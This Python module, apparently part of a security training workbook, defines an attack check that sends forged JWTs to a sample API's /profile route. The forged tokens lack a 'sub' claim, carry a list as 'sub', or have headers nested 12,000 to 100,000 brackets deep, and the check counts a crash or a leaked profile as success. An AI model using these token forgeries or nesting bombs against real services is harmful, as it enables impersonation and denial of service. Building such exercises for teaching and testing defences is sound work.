"""Mallory sends tokens that nobody expects: no `sub`, a list for one, a header of 12,000 brackets.

It works where such a token passes, or ends in a 500: a switch that she can press all day.
"""

from workbook.attacking import Api, NoSuchRoute, attack, forge

NESTED = (b"[" * 12_000, b"[" * 100_000)  # newer Pythons give up later


@attack(
    "Crash /profile with a crafted token",
    route="GET /profile",
    closes=6,
    see="RFC 8725 §2.4",
    catches="VF-15 VF-30 VF-34",
)
def profile_crashing_token(api: Api) -> str | None:
    if api.get("/profile", caller="mallory").status != 401:
        raise NoSuchRoute("a /profile that asks for a token")
    alice, mallory = api.alice, api.mallory
    good = mallory.token
    crafted = {
        "a token without sub": forge.forge(good, "", {"sub": forge.LEFT_OUT}),
        "a token whose sub is a list": forge.forge(good, "", {"sub": [alice.id]}),
    }
    for header in NESTED:
        what = f"a header nested {len(header):,} levels deep"
        crafted[what] = forge.signed(header, forge.claims_of(good), "")
    address = {"username": alice.username}
    for what, token in crafted.items():
        seen = api.get("/profile", token=token, params=address, caller=mallory.username)
        if seen.status >= 500 or seen.status == 0:
            return f"a crash of the server ({seen.status}), with {what}"
        if seen.status == 200:
            return f"a profile, with {what}"
    return None
